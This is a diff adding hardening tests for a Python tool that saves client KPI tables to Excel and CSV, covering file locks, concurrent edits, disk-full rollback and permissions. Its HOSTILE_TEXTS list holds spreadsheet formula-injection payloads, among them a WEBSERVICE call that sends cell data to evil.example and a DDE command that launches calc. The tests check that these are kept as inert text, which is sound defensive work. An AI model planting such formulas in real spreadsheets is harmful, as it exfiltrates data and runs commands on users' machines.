@@ -182,5 +182,217 @@ def test_changed_on_disk_is_refused(tmp_path: Path) -> None:
     p = eng.table("problems").iloc[0]
     eng.edit_problem(str(p["problem_id"]), metric="changed")
     (folder / "problems.csv").write_bytes((folder / "problems.csv").read_bytes() + b"\n")
-    res = eng.save()
-    assert not res.ok and "changed on disk" in res.report.errors[0].message
+    with pytest.raises(SaveError) as info:
+        eng.save()
+    assert info.value.kind == "changed" and "changed on disk" in str(info.value)
+    assert str(folder) in str(info.value)
+
+
+# ------------------------------------------------------------------------------------------------ hardening
+import errno
+import fcntl
+import os
+import stat
+import subprocess
+import sys
+
+from workbench.intake import writeback
+from workbench.intake.writeback import SaveError
+
+HOSTILE_TEXTS = ['=WEBSERVICE("http://evil.example/?"&E2)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x","y")',
+                 "+SUM(1,2)", "-2+3", "@cmd", "#N/A", "'=already quoted", "普通文本 = 不是公式"]
+
+
+def edit_kpi_names(folder: Path, texts: list[str]) -> pd.DataFrame:
+    kpis = load_client(folder).table("kpis").copy()
+    for i, text in enumerate(texts):
+        kpis.loc[kpis.index[i], "kpi"] = text
+    return kpis
+
+
+def test_xlsx_text_starting_with_formula_characters_stays_text(tmp_path: Path) -> None:
+    folder = copy_client(tmp_path, "huaxin-steel")
+    res = save_tables(folder, {"kpis": edit_kpi_names(folder, HOSTILE_TEXTS)})
+    assert res.ok, res.report.format()
+    ws = openpyxl.load_workbook(folder / "intake.xlsx")["kpis"]
+    col = next(c.column for c in ws[1] if c.value == "kpi")
+    rows = list(load_client(folder).table("kpis")["_row"])[: len(HOSTILE_TEXTS)]
+    for text, row in zip(HOSTILE_TEXTS, rows):
+        cell = ws.cell(int(row), col)
+        assert cell.data_type == "s" and cell.value == text, (text, cell.data_type, cell.value)
+    assert list(load_client(folder).table("kpis")["kpi"])[: len(HOSTILE_TEXTS)] == HOSTILE_TEXTS
+
+
+def test_csv_text_is_neutralised_and_reads_back_exactly(tmp_path: Path) -> None:
+    folder = copy_client(tmp_path, "jinfeng-logistics")
+    res = save_tables(folder, {"kpis": edit_kpi_names(folder, HOSTILE_TEXTS)})
+    assert res.ok, res.report.format()
+    import csv as _csv
+
+    rows = list(_csv.reader((folder / "kpis.csv").read_text(encoding="utf-8").splitlines()))
+    col = rows[0].index("kpi")
+    written = [r[col] for r in rows[1: 1 + len(HOSTILE_TEXTS)]]
+    for field in written:  # no field a spreadsheet would run as a formula
+        assert not field[:1] in "=+-@\t\r", field
+    assert written[0] == "'" + HOSTILE_TEXTS[0] and written[-1] == HOSTILE_TEXTS[-1]
+    assert list(load_client(folder).table("kpis")["kpi"])[: len(HOSTILE_TEXTS)] == HOSTILE_TEXTS
+
+
+def test_percent_formatted_cell_gets_a_format_matching_the_value(tmp_path: Path) -> None:
+    folder = copy_client(tmp_path, "huaxin-steel")
+    kpis = load_client(folder).table("kpis")
+    k = kpis[kpis["method"] == "ratio"].iloc[0]
+    row = int(k["_row"])
+    wb = openpyxl.load_workbook(folder / "intake.xlsx")
+    ws = wb["kpis"]
+    col = next(c.column for c in ws[1] if c.value == "target")
+    ws.cell(row, col).number_format = "0%"  # as Excel does when 90% is typed
+    wb.save(folder / "intake.xlsx")
+    edited = load_client(folder).table("kpis").copy()
+    edited.loc[edited["_row"] == row, "target"] = 90
+    res = save_tables(folder, {"kpis": edited})
+    assert res.ok, res.report.format()
+    cell = openpyxl.load_workbook(folder / "intake.xlsx")["kpis"].cell(row, col)
+    assert cell.value == 90 and "%" not in cell.number_format, cell.number_format
+
+
+def _kid_target(folder: Path) -> pd.DataFrame:
+    kpis = load_client(folder).table("kpis").copy()
+    i = kpis.index[kpis["method"] == "ratio"][0]
+    kpis.loc[i, "target"] = float(kpis.loc[i, "target"]) + 1
+    return kpis
+
+
+@pytest.mark.parametrize("lock, kind, holder", [("~$intake.xlsx", "locked_office", None),
+                                                (".~lock.intake.xlsx#", "locked_libre", "张三")])
+def test_open_in_an_editor_is_refused_naming_the_users_file(tmp_path: Path, lock: str, kind: str, holder: str | None) -> None:
+    folder = copy_client(tmp_path, "huaxin-steel")
+    before = (folder / "intake.xlsx").read_bytes()
+    (folder / lock).write_bytes("张三,WS-07,ws07,03.12.2026 09:30,file:///home/zs/.config;".encode() if holder else b"\x04zhao")
+    with pytest.raises(SaveError) as info:
+        save_tables(folder, {"kpis": _kid_target(folder)})
+    err = info.value
+    assert err.kind == kind and err.path == folder / "intake.xlsx"
+    assert str(folder / "intake.xlsx") in str(err) and lock in str(err) and "关闭" in str(err)  # zh client, zh text
+    assert "Close" in err.text("en")
+    if holder:
+        assert holder in str(err)
+    assert (folder / "intake.xlsx").read_bytes() == before and not (folder / "backups").exists()
+
+
+@pytest.mark.parametrize("how", ["flock", "lockf"])
+def test_advisory_lock_held_by_another_program_is_refused(tmp_path: Path, how: str) -> None:
+    folder = copy_client(tmp_path, "huaxin-steel")
+    target = folder / "intake.xlsx"
+    before = target.read_bytes()
+    code = (f"import fcntl, sys, time; f = open({str(target)!r}, 'r+b'); fcntl.{how}(f, fcntl.LOCK_EX); "
+            "print('locked', flush=True); sys.stdin.read()")
+    holder = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    try:
+        assert holder.stdout.readline().strip() == "locked"
+        with pytest.raises(SaveError) as info:
+            save_tables(folder, {"kpis": _kid_target(folder)})
+        assert info.value.kind == "locked_advisory" and str(target) in str(info.value)
+    finally:
+        holder.stdin.close()
+        holder.wait(10)
+    assert target.read_bytes() == before
+    assert save_tables(folder, {"kpis": _kid_target(folder)}).ok  # released: the save goes through
+
+
+def test_a_colleagues_write_during_the_save_is_not_overwritten(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    folder = copy_client(tmp_path, "huaxin-steel")
+    real_apply = writeback._apply_xlsx
+
+    def apply_while_colleague_saves(path, *a, **k):
+        real_apply(path, *a, **k)
+        wb = openpyxl.load_workbook(folder / "intake.xlsx")  # the colleague saves the user's file meanwhile
+        wb["kpis"]["A1"].comment = Comment("colleague", "li")
+        wb.save(folder / "intake.xlsx")
+
+    edited = _kid_target(folder)
+    monkeypatch.setattr(writeback, "_apply_xlsx", apply_while_colleague_saves)
+    with pytest.raises(SaveError) as info:
+        save_tables(folder, {"kpis": edited})
+    assert info.value.kind == "changed" and str(folder / "intake.xlsx") in str(info.value)
+    assert openpyxl.load_workbook(folder / "intake.xlsx")["kpis"]["A1"].comment.text == "colleague"
+    assert not (folder / "backups").exists()
+
+
+def test_csv_files_of_one_save_are_replaced_as_a_set(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    folder = copy_client(tmp_path, "jinfeng-logistics")
+    before = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
+    client = load_client(folder)
+    kpis = edit_kpi_names(folder, ["新名称"])
+    problems = client.table("problems").copy()
+    problems.loc[problems.index[0], "metric"] = "新指标"
+    calls = []
+    real_replace = os.replace
+
+    def replace_then_disk_full(src, dst):
+        calls.append(Path(dst).name)
+        if len([c for c in calls if not c.startswith(".")]) == 2 and not Path(dst).name.startswith("."):
+            raise OSError(errno.ENOSPC, "No space left on device")
+        return real_replace(src, dst)
+
+    monkeypatch.setattr(writeback.os, "replace", replace_then_disk_full)
+    with pytest.raises(SaveError) as info:
+        save_tables(folder, {"kpis": kpis, "problems": problems})
+    monkeypatch.undo()
+    err = info.value
+    assert err.kind == "disk_full" and err.path.parent == folder and ".tmp" not in str(err)
+    assert "磁盘空间不足" in str(err)
+    after = {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}
+    assert after == before  # the first file was put back; no temp file left beside them
+
+
+def test_permission_error_names_the_users_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    folder = copy_client(tmp_path, "riverside-hospital")
+
+    def denied(*a, **k):
+        raise PermissionError(errno.EACCES, "Permission denied", "/tmp/.intake.xlsx.x1y2.tmp")
+
+    monkeypatch.setattr(writeback.tempfile, "mkstemp", denied)
+    with pytest.raises(SaveError) as info:
+        save_tables(folder, {"kpis": _kid_target(folder)})
+    assert info.value.kind == "permission"
+    assert str(info.value).startswith(f"Cannot save {folder / 'intake.xlsx'}") and ".tmp" not in str(info.value)
+
+
+def test_symlinked_intake_is_written_through_and_permissions_kept(tmp_path: Path) -> None:
+    folder = copy_client(tmp_path, "huaxin-steel")
+    (folder / "data").mkdir()
+    real = folder / "data" / "workbook.xlsx"
+    (folder / "intake.xlsx").rename(real)
+    (folder / "intake.xlsx").symlink_to(Path("data") / "workbook.xlsx")
+    os.chmod(real, 0o640)
+    before = real.read_bytes()
+    res = save_tables(folder, {"kpis": _kid_target(folder)})
+    assert res.ok, res.report.format()
+    assert (folder / "intake.xlsx").is_symlink() and real.read_bytes() != before
+    assert stat.S_IMODE(real.stat().st_mode) == 0o640
+    assert (res.backup / "intake.xlsx").read_bytes() == before
+
+
+def test_read_only_intake_is_refused_and_stays_read_only(tmp_path: Path) -> None:
+    folder = copy_client(tmp_path, "riverside-hospital")
+    target = folder / "intake.xlsx"
+    os.chmod(target, 0o444)
+    with pytest.raises(SaveError) as info:
+        save_tables(folder, {"kpis": _kid_target(folder)})
+    assert info.value.kind == "readonly" and "read-only" in str(info.value)
+    assert stat.S_IMODE(target.stat().st_mode) == 0o444
+
+
+def test_the_notebook_shows_a_refused_save_in_the_clients_language(tmp_path: Path) -> None:
+    from workbench.widgets import EngagementApp
+
+    folder = copy_client(tmp_path, "huaxin-steel")
+    app = EngagementApp(folder, folder.parent)
+    kid = str(app.engagement.table("kpis")["kpi_id"].iloc[0])
+    app.engagement.set_kpi(kid, target=float(app.engagement.table("kpis")["target"].iloc[0]) + 1)
+    (folder / "~$intake.xlsx").write_bytes(b"\x02li")
+    res = app.save()
+    assert isinstance(res, SaveError)
+    assert str(folder / "intake.xlsx") in app.save_out.value and "Excel" in app.save_out.value and "关闭" in app.save_out.value
+    assert app.engagement.dirty  # the edits are still there to save once the workbook is closed
